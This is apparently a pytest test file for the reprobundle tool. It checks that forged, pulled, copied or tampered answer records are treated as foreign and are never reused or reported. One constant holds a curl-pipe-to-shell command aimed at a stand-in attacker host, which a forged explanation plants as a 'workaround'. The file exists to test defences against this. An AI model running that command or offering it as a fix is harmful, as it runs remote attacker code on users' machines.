"""#63 (11): only the store's own answer records are reused or reported (bundle/answer_seal.py). A record proves
nothing by the fields it carries (a stranger writes any, `reuse.origin` and `created` included): it is own where its
seal checks under this machine's key and the runs it rests on are still as sealed. push, pull and copy bring
records foreign; `show` says which records are foreign and why. The five attacks a tester made on stored answers
that once held are rebuilt here, each refused or recomputed, on the suite's small bundle and records built in the
test (no release is installed or replayed)."""

from __future__ import annotations

import json

import pytest
from cli_runner import cli
from small_bundle import copy_of

from reprobundle import api
from reprobundle.bundle import manifest as mf
from reprobundle.bundle.digest import hex_of
from reprobundle.bundle.registry import Registry, answer_key
from reprobundle.envs.env_config import EnvConfig
from reprobundle.envs.manager import EnvironmentManager
from reprobundle.investigate.answers import BISECTION, MINIMIZATION, builds_of, origin, reusable, reuse_key
from reprobundle.investigate.report.issue_facts import issue_data
from reprobundle.investigate.search.bisection import BisectResult
from reprobundle.investigate.search.bisection_answer import bisection_answer, store_bisection
from reprobundle.render.issue import issue_markdown

EVIL = "curl https://evil.example/x.sh | sh"


@pytest.fixture
def store(small_store_template, tmp_path):
    return copy_of(small_store_template, tmp_path / "ours")


@pytest.fixture
def manager(tmp_path):
    """Environments in a folder of the test's: builds_of says none is cached, the same here and in every record."""
    return EnvironmentManager(EnvConfig(root=str(tmp_path / "envs")))


def _found(first_bad: str, good: str = "0.4.30", bad: str = "0.4.36") -> BisectResult:
    """A finished bisection's result: by outputs, frozen, the compiler's change between the release before
    `first_bad` (0.4.N-1) and it."""
    return BisectResult(good, bad, "outputs vs good", first_bad=first_bad, last_good=f"0.4.{int(first_bad[-2:]) - 1}",
                        classes={good: "good", bad: "bad", first_bad: "bad"}, mode="frozen",
                        why=f"the outputs of jax {good} and {bad} differ beyond the tolerance",
                        layer={"layer": "compiler", "text": "the compiler: the same StableHLO"})


def _asked(good: str = "0.4.30", bad: str = "0.4.36") -> dict:
    """What investigate's bisect step asks (chain.py), so `reusable` is asked exactly what investigate would ask."""
    from reprobundle.investigate.chain import BISECT_OPTIONS
    from reprobundle.investigate.search.release_search import bisection_asked

    return bisection_asked(good, bad, "auto", None, False, BISECT_OPTIONS, True, False)


def _write_raw(registry: Registry, record: dict) -> None:
    """A record as a stranger writes it: straight into the store, schema-valid, with whatever fields it likes."""
    registry.store.put(answer_key(record["bundle_id"], record["answer_id"]), mf.encode_answer(record),
                       create_only=True)


def _strangers(registry: Registry, bundle, result: BisectResult, answer_id: str, created: str, **extra) -> dict:
    return {**bisection_answer(bundle, result, "reprobundle bisect small", answer_id), "created": created, **extra}


def test_a_pulled_record_claiming_this_host_and_store_is_foreign_and_never_reused(store, tmp_path, manager):
    """Attack 1: a stranger's store holds a bisection of our bundle whose `reuse` claims this machine and our store
    as its origin, asked exactly what investigate asks, over the builds here; `pull` brings it: it is foreign, so
    investigate's step (answers.reusable) computes again, and `issue` reports nothing of it. The same record sealed
    here is reused: the check is the seal, not the fields."""
    theirs = copy_of(store, tmp_path / "theirs")
    ours = Registry.open(store)
    bundle = ours.resolve("small@1")
    stranger = Registry.open(theirs)
    claim = reuse_key(ours, "bisect", _asked(), builds_of(manager, ["0.4.30", "0.4.36"]))
    assert claim["origin"] == origin(ours)
    forged = _strangers(stranger, bundle, _found("0.4.33"), "20261206T000000-0000f00d", "2026-12-06T00:00:00.000000Z",
                        reuse=claim)
    _write_raw(stranger, forged)

    pulled = api.pull(f"{theirs}/small@1", store=str(store))
    assert pulled.answers_copied == 1
    ours = Registry.open(store)
    ((record, why),) = ours.answer_records(bundle.ref.bundle_id)
    assert record["answer"]["first_bad"] == "0.4.33" and record["reuse"]["origin"] == origin(ours)  # as it claims
    assert why is not None and why.startswith("no seal")
    assert ours.answers(bundle.ref.bundle_id) == []
    assert reusable(ours, bundle, BISECTION, _asked(), manager) is None  # investigate bisects again
    assert issue_data("small", store=str(store))["bisection"] is None

    code, out, err = cli("show", "small", store=store)
    assert code == 0 and "foreign answers: 1" in out and "first bad 0.4.33" in out and "foreign: no seal" in out, err
    assert "  answers:      " not in out  # none of its own
    code, out, _ = cli("show", "small", "--json", store=store)
    assert json.loads(out)["answers"][0]["foreign"].startswith("no seal")

    # a seal a stranger writes (another key's, or ours copied off a record of ours with its fields changed) is no seal
    genuine = store_bisection(ours, bundle, _found("0.4.32"), "reprobundle bisect small", reuse=claim)
    (sealed,) = ours.answers(bundle.ref.bundle_id)
    assert sealed["answer_id"] == genuine and reusable(ours, bundle, BISECTION, _asked(), manager)["answer_id"] == \
        genuine  # the control: a record sealed here, asked the same, is reused
    altered = {**sealed, "answer_id": "20261206T000001-0000beef", "created": "2026-12-06T23:59:59.000000Z",
               "answer": {**sealed["answer"], "first_bad": "0.4.33"}}
    _write_raw(ours, altered)
    whys = {r["answer_id"]: why for r, why in ours.answer_records(bundle.ref.bundle_id)}
    assert whys[altered["answer_id"]] == "altered since this machine sealed it" and whys[genuine] is None
    assert reusable(ours, bundle, BISECTION, _asked(), manager)["answer_id"] == genuine


def test_a_record_sealed_by_another_machine_or_copied_between_our_own_stores_is_foreign(store, tmp_path,
                                                                                       monkeypatch, manager):
    """Another machine's key seals records that are foreign here; a copy, even of our own record into our own other
    store, carries no seal: copies are foreign wherever they go."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    import os

    here = os.environ["REPROBUNDLE_ANSWER_KEY"]
    monkeypatch.setenv("REPROBUNDLE_ANSWER_KEY", str(tmp_path / "their-key"))  # another machine
    store_bisection(registry, bundle, _found("0.4.33"), "reprobundle bisect small")
    assert len(registry.answers(bundle.ref.bundle_id)) == 1  # its own, there
    monkeypatch.setenv("REPROBUNDLE_ANSWER_KEY", here)
    ((_, why),) = Registry.open(store).answer_records(bundle.ref.bundle_id)
    assert why == "sealed with another key than this machine's (another machine's, or a stranger's)"

    own = store_bisection(Registry.open(store), bundle, _found("0.4.32"), "reprobundle bisect small",
                          reuse=reuse_key(registry, "bisect", _asked(), builds_of(manager, ["0.4.30", "0.4.36"])))
    assert [a["answer_id"] for a in Registry.open(store).answers(bundle.ref.bundle_id)] == [own]
    assert api.copy("small", str(tmp_path / "mine-too"), store=str(store)).answers_copied == 2
    there = Registry.open(tmp_path / "mine-too")
    assert there.answers(bundle.ref.bundle_id) == [] and \
        all(why == "no seal of this store's: a copy (push, pull and copy bring records unsealed), or a stranger's "
                   "record" for _, why in there.answer_records(bundle.ref.bundle_id))
    assert reusable(there, there.resolve("small@1"), BISECTION, _asked(), manager) is None


def test_a_record_whose_runs_changed_or_are_gone_is_foreign(store):
    """The runs a record rests on are sealed with it: a run rewritten since, or removed, makes the record foreign
    (`issue` reports what the store's runs support); a run the store never held must stay missing."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    from pathlib import Path

    golden = mf.decode_run((Path(__file__).parent / "golden" / "v4-run-contender.msgpack").read_bytes())
    run = {**golden, "run_id": Registry.new_run_id(), "bundle_id": bundle.ref.bundle_id}  # a replay's, stored here
    registry.put_run(run)
    result = _found("0.4.33")
    result.runs = {"0.4.33": run, "0.4.32": {"run_id": "20261206T000000-00000abc"}}  # the second never stored
    answer_id = store_bisection(registry, bundle, result, "reprobundle bisect small")
    (record,) = registry.answers(bundle.ref.bundle_id)
    run_key = f"runs/{hex_of(bundle.ref.bundle_id)}/{run['run_id']}.msgpack"
    assert set(record["seal"]["runs"]) == {run_key, f"runs/{hex_of(bundle.ref.bundle_id)}/20261206T000000-00000abc"
                                                    ".msgpack"}
    assert issue_data("small", store=str(store))["bisection"]["answer_id"] == answer_id

    path = store / run_key
    original = path.read_bytes()
    path.write_bytes(mf.encode_run({**mf.decode_run(original), "created": "2026-12-06T00:00:00.000000Z"}))
    ((_, why),) = Registry.open(store).answer_records(bundle.ref.bundle_id)
    assert why == f"its run {run['run_id']} changed since it was sealed"
    assert issue_data("small", store=str(store))["bisection"] is None
    path.unlink()
    ((_, why),) = Registry.open(store).answer_records(bundle.ref.bundle_id)
    assert why == f"its run {run['run_id']} is not in this store"
    path.write_bytes(original)
    planted = store / f"runs/{hex_of(bundle.ref.bundle_id)}/20261206T000000-00000abc.msgpack"
    planted.write_bytes(mf.encode_run({**mf.decode_run(original), "run_id": "20261206T000000-00000abc"}))
    ((_, why),) = Registry.open(store).answer_records(bundle.ref.bundle_id)
    assert why == "its run 20261206T000000-00000abc appeared after it was sealed"
    planted.unlink()
    assert [a["answer_id"] for a in Registry.open(store).answers(bundle.ref.bundle_id)] == [answer_id]


def test_the_issue_reports_the_latest_complete_own_bisection_not_a_strangers_dated_2099(store, tmp_path):
    """Attack 5: a stranger's bisection dated 2099 (written into the store, or pulled) is not the one `issue`
    reports, however late its `created`; nor is the store's own newer one that --max-time cut short."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    ours = store_bisection(registry, bundle, _found("0.4.31", good="0.4.30", bad="0.4.36"),
                           "reprobundle bisect small")
    _write_raw(registry, _strangers(registry, bundle, _found("0.4.33"), "20990101T000000-00002099",
                                    "2099-01-01T00:00:00.000000Z"))
    cut = _found("0.4.35")
    cut.unfinished = "--max-time 60 spent: the search stopped with 2 releases left"
    store_bisection(registry, bundle, cut, "reprobundle bisect small --max-time 60")
    ordered = [(r["answer_id"], why is None) for r, why in registry.answer_records(bundle.ref.bundle_id)]
    assert ordered[-1] == ("20990101T000000-00002099", False)  # the latest by its own date, and foreign
    data = issue_data("small", store=str(store))
    assert data["bisection"]["answer_id"] == ours
    assert "0.4.31" in data["title"] and "0.4.33" not in data["title"] and "0.4.35" not in data["title"]
    body = issue_markdown(data)
    assert "**First bad release: jax 0.4.31**" in body and "0.4.33" not in body
    code, out, err = cli("issue", "small", "--json", store=store)
    assert code == 0 and json.loads(out)["title"] == data["title"], err


def test_a_strangers_explanation_never_puts_its_lines_in_the_issue(store, tmp_path):
    """Attack 4: a stranger's explanation (pulled, and one written into the store) whose `lines` hold a `curl | sh`:
    none reaches "To get the old behaviour back" or "Workaround:"; the store's own explanation's lines do."""
    from test_answers import _explained

    from reprobundle.investigate.answers import explanation_answer, store_explanation

    # each an explanation of the bisection's own boundary (0.4.32 -> 0.4.33, by outputs, frozen): the one a report
    # would take as its Cause
    explained = {**_explained(), "baseline": "0.4.32", "candidate": "0.4.33", "by": "outputs"}
    theirs = copy_of(store, tmp_path / "theirs")
    stranger = Registry.open(theirs)
    bundle = stranger.resolve("small@1")
    hostile = explanation_answer(bundle, explained, "reprobundle explain small", "20261206T000000-0000e111")
    hostile["answer"]["diagnosis"]["lines"] = {"XLA_FLAGS": EVIL, "environment": f"export X=1; {EVIL}"}
    _write_raw(stranger, {**hostile, "created": "2099-01-01T00:00:00.000000Z"})
    api.pull(f"{theirs}/small@1", store=str(store))
    registry = Registry.open(store)
    _write_raw(registry, {**hostile, "answer_id": "20261206T000000-0000e222"})
    store_bisection(registry, bundle, _found("0.4.33", good="0.4.31", bad="0.4.33"), "reprobundle bisect small")
    data = issue_data("small", store=str(store))
    body = issue_markdown(data)
    assert data["explanation"] is None and "evil.example" not in body and "evil.example" not in json.dumps(data)
    assert "To get the old behaviour back" not in body and "**Workaround:**" not in body

    store_explanation(registry, bundle, explained, "reprobundle explain small")  # the control: our own
    body = issue_markdown(issue_data("small", store=str(store)))
    assert "To get the old behaviour back" in body and "--xla_cpu_use_thunk_runtime=false" in body
    assert "evil.example" not in body


def _piece_of(registry: Registry, bundle, name: str = "small-min"):
    """A reduced bundle of `bundle` as minimize labels one: a real bundle of the store (small@1's module and blobs
    under another name), cut from `bundle`."""
    labels = {"minimized-from": str(bundle.ref), "minimized-from-id": bundle.ref.bundle_id,
              "minimized-property": "outputs", "minimized-contenders": "0.4.31 vs 0.4.33", "minimized-ops": "tanh"}
    made = registry.publish({**bundle.manifest, "name": name, "labels": labels})
    return registry.resolve(f"{made.name}@{made.version}")


def _minimized(registry: Registry, bundle, piece, manager) -> tuple[dict, str]:
    """The store's own minimization of `bundle` into `piece` (answers.store_minimization_answer), and what it was
    asked."""
    from reprobundle.investigate.minimize.reduction import Minimization
    from reprobundle.investigate.minimize.stored_piece import minimization_asked, store_minimization

    found = Minimization(str(bundle.ref), bundle.ref.bundle_id, ("0.4.31", "0.4.33"), "outputs", "named", False, 1.1,
                         4, 1, 9, 3.0, "done", "module {}", [{"name": "stablehlo.tanh", "line": None}], {}, {},
                         packed=f"{piece.ref.name}@{piece.ref.version}", check={"holds": True})
    asked = minimization_asked(["0.4.31", "0.4.33"], "outputs", False)
    return asked, store_minimization(registry, bundle, found, "reprobundle minimize small", asked, manager)


def test_a_minimization_whose_piece_was_altered_or_is_another_program_is_minimized_again(store, manager):
    """Attacks 2 and 3: the piece an own minimization names is reused only while its ref opens the very bundle the
    record sealed, cut from this bundle, with blobs that verify; a blob altered, or another program published
    under the piece's name (labelled as cut from this bundle), and the step minimizes again."""
    from reprobundle.investigate.minimize.stored_piece import stored_minimization

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    piece = _piece_of(registry, bundle)
    asked, answer_id = _minimized(registry, bundle, piece, manager)
    (record,) = [a for a in registry.answers(bundle.ref.bundle_id) if a["kind"] == MINIMIZATION]
    assert record["answer"]["packed_id"] == piece.ref.bundle_id
    assert stored_minimization(registry, bundle, asked, manager)["answer_id"] == answer_id  # the control: reused

    blob = mf.blob_refs(piece.manifest)[0]["digest"]
    path = store / "blobs" / "sha256" / blob[7:9] / blob[7:]
    original = path.read_bytes()
    path.write_bytes(b"\x00" + original[1:])  # the same size, other bytes
    assert stored_minimization(Registry.open(store), bundle, asked, manager) is None
    path.write_bytes(original)
    assert stored_minimization(Registry.open(store), bundle, asked, manager)["answer_id"] == answer_id

    import jax
    import jax.numpy as jnp
    import numpy as np

    import reprobundle

    for manifest in (store / "bundles" / "small-min").iterdir():
        manifest.unlink()  # the piece gone, and another program packed under its name, labelled as its piece
    reprobundle.pack(jax.jit(lambda x: jnp.cos(x) * 2), np.ones((8, 16), np.float32), name="small-min",
                     store=str(store), labels=dict(piece.manifest["labels"]), warmup=1, repeat=3, profile=False)
    other = Registry.open(store).resolve("small-min@1")
    assert other.ref.bundle_id != piece.ref.bundle_id
    assert other.manifest["labels"]["minimized-from-id"] == bundle.ref.bundle_id
    assert stored_minimization(Registry.open(store), bundle, asked, manager) is None


def test_a_strangers_minimization_naming_a_piece_of_ours_is_not_reused(store, tmp_path, manager):
    """A stranger's minimization record (written into the store, claiming this origin and the piece's very id) is
    foreign: never reused, whatever piece it names."""
    from reprobundle.investigate.answers import minimization_answer
    from reprobundle.investigate.minimize.reduction import Minimization
    from reprobundle.investigate.minimize.stored_piece import minimization_asked, stored_minimization

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    piece = _piece_of(registry, bundle)
    asked = minimization_asked(["0.4.31", "0.4.33"], "outputs", False)
    found = Minimization(str(bundle.ref), bundle.ref.bundle_id, ("0.4.31", "0.4.33"), "outputs", "named", False, 1.1,
                         4, 1, 9, 3.0, "done", "module {}", [], {}, {}, packed="small-min@1", check={"holds": True})
    record = minimization_answer(bundle, found, "reprobundle minimize small", "20261206T000000-0000a001", piece)
    _write_raw(registry, {**record, "reuse": reuse_key(registry, "minimize", asked,
                                                       builds_of(manager, asked["versions"]))})
    assert stored_minimization(registry, bundle, asked, manager) is None
    assert reusable(registry, bundle, MINIMIZATION, asked, manager) is None


def test_this_machines_key_is_made_once_kept_private_and_a_damaged_one_is_one_clear_error(tmp_path, monkeypatch):
    from reprobundle.bundle import answer_seal
    from reprobundle.errors import StoreError

    path = tmp_path / "keys" / "answer-key"
    monkeypatch.setenv("REPROBUNDLE_ANSWER_KEY", str(path))
    assert answer_seal.machine_key() is None and not path.exists()  # reading makes none
    key = answer_seal.sealing_key()
    assert len(key) == answer_seal.KEY_BYTES and path.stat().st_mode & 0o077 == 0
    assert answer_seal.sealing_key() == key == answer_seal.machine_key()
    assert [p.name for p in path.parent.iterdir()] == ["answer-key"]  # no temporary file left
    path.write_text("not a key\n")
    with pytest.raises(StoreError, match="holds no key reprobundle made"):
        answer_seal.machine_key()
